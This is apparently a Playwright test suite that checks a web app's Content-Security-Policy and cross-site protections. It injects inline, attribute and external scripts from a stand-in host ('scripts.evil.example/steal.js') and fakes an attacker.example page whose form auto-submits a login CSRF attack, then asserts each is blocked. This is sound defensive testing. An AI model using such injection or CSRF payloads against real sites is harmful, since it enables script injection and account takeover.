/// <reference lib="dom" />
import { readFileSync } from 'node:fs';
import type { BrowserContext, Page } from 'playwright-core';
import { PASSWORD, registeredUser } from '../support/accounts.js';
import { customerInBrowser, submitDraw } from '../support/browser-draws.js';
import { gotoUnstarted, launchBrowser, type TestBrowser } from '../support/browser.js';
import { createTestApp, type TestApp } from '../support/test-app.js';

/** Records the page's Content-Security-Policy violations from its first byte (an init script runs before the page's own). */
async function recordViolations(context: BrowserContext): Promise<void> {
  await context.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __cspViolations: string[] }).__cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (event) => seen.push(`${event.effectiveDirective} blocked ${event.blockedURI || 'inline'} at ${event.sourceFile}:${event.lineNumber}`));
  });
}

const violations = (page: Page) => page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations);

describe('Content-Security-Policy and cross-site requests in Chromium', () => {
  let t: TestApp;
  let base: string;
  let chromium: TestBrowser;
  let customer: { page: Page; context: BrowserContext; consoleErrors: string[] };
  let drawId: string;
  let shortCode: string;

  beforeAll(async () => {
    t = await createTestApp({ env: { TRUST_PROXY: 'loopback' } });
    base = await t.listen();
    chromium = await launchBrowser();
    customer = await chromium.newPage();
    await recordViolations(customer.context);
    const { agent } = await customerInBrowser(t, customer.context, base);
    drawId = await submitDraw(agent);
    shortCode = (await agent.get('/api/draw/get/').query({ id: drawId }).expect(200)).body.shortCode;
  });

  afterAll(async () => {
    await chromium?.close();
    await t?.close();
  });

  /**
   * Every route of the client as the build lists them (its first path each; the parameters filled with the
   * customer's drawn draw), the certificate's other forms, its owner's preview frame and a country site.
   */
  const pages = () => [
    ...(JSON.parse(readFileSync('client/dist/.vite/prerendered.json', 'utf8')) as { routes: { paths: string[] }[] }).routes.map(({ paths }) =>
      paths[0].replace(':id', drawId).replace(':shortCode', shortCode).replace(':token', 'a'.repeat(43)),
    ),
    `/cert/${shortCode}x/`,
    `/cert/${shortCode}/?prev=true&fw=720#${Buffer.from(JSON.stringify({ lo: 'text', lt: 'Preview Co' })).toString('base64url')}`,
    '/au/',
  ];

  it('loads every page of the client, signed in, with no violation of its policy', async () => {
    const { page, consoleErrors } = customer;
    const found: Record<string, string[]> = {};
    for (const path of pages()) {
      // goto waits until the app runs the page (a prerendered one is started and hydrated).
      await page.goto(base + path);
      await page.waitForFunction(() => (document.querySelector('#root')?.childElementCount ?? 0) > 0 && document.title !== '');
      const seen = await violations(page);
      if (seen.length) found[path] = seen;
    }
    expect(found).toEqual({});
    expect(consoleErrors.filter((message) => /Content Security Policy/i.test(message))).toEqual([]);
  }, 240_000);

  it('loads the API reference (Swagger UI) with no violation', async () => {
    const { page } = customer;
    await page.goto(`${base}/api/docs`);
    await page.locator('.swagger-ui .info .title').waitFor();
    await page.locator('.opblock').first().waitFor();
    expect(await violations(page)).toEqual([]);
  });

  it('blocks a script injected into a page: inline, in an attribute, or from an origin not configured', async () => {
    const { page } = customer;
    await page.goto(`${base}/cert/${shortCode}/`);
    await page.getByRole('heading', { level: 1, name: 'Certificate of random draw' }).waitFor();
    await page.evaluate(() => {
      const inline = document.createElement('script');
      inline.textContent = 'window.__injected = "inline";';
      document.body.appendChild(inline);
      const image = document.createElement('img');
      image.setAttribute('onerror', 'window.__injected = "attribute";');
      image.src = '/no-such-image.png';
      document.body.appendChild(image);
      const outside = document.createElement('script');
      outside.src = 'https://scripts.evil.example/steal.js';
      document.body.appendChild(outside);
    });
    const seen = await page.waitForFunction(() => {
      const found = (window as unknown as { __cspViolations: string[] }).__cspViolations;
      return found.length >= 3 && found;
    });
    const blocked = (await seen.jsonValue()) as string[];
    expect(blocked).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^script-src-elem blocked inline/),
        expect.stringMatching(/^script-src-attr blocked inline/),
        expect.stringMatching(/^script-src-elem blocked https:\/\/scripts\.evil\.example\/steal\.js/),
      ]),
    );
    expect(await page.evaluate(() => (window as unknown as { __injected?: string }).__injected)).toBeUndefined();
  });

  it('does not sign a visitor in from a form on another site (login CSRF), with no cookie of ours yet', async () => {
    const { email } = await registeredUser(t.app);
    const { page, context } = await chromium.newPage();
    // The attacker's page, on a site of its own, posts its own credentials as soon as it opens.
    await context.route('http://attacker.example/', (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: `<!doctype html><title>Win a prize</title><form method="post" action="${base}/api/account/login/">
          <input name="email" value="${email}"><input name="password" value="${PASSWORD}"></form>
          <script>window.onload = () => document.forms[0].submit()</script>`,
      }),
    );
    const answered = page.waitForResponse(`${base}/api/account/login/`);
    await gotoUnstarted(page, 'http://attacker.example/');
    const response = await answered;
    expect(response.status()).toBe(403);
    expect(await response.json()).toEqual({ message: 'Cross-site requests are not allowed.' });
    expect((await context.cookies(base)).map((cookie) => cookie.name)).not.toContain('fairdraw.sid');
    // The account page sends the visitor, not signed in, to log in.
    await page.goto(`${base}/account/edit/`);
    await page.waitForURL(/\/account\/login\//);
    await page.getByRole('heading', { level: 1, name: 'Log in' }).waitFor();
    await context.close();
  });
});
